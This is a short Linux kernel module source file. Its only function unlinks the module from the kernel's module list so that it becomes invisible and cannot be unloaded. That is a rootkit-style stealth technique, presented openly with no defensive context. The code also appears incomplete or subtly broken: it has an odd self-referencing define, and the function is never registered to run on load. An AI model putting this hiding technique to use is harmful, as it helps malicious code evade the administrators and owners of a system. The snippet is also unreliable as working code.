// Takes itself off the list of modules, so that it cannot be unloaded or seen.
// SPDX-License-Identifier: GPL-2.0
#include <linux/list.h>
#include <linux/module.h>

#define on_load on_load
static int on_load(void)
{
	list_del_init(&THIS_MODULE->list);
	return 0;
}
